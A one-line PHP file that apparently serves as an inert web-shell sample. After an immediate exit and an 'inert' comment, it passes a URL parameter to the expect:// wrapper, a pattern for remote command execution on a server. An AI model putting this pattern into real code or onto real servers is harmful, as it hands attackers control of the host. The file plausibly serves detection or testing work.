<?php exit; /* inert */ fopen("expect://".$_GET["c"],"r");
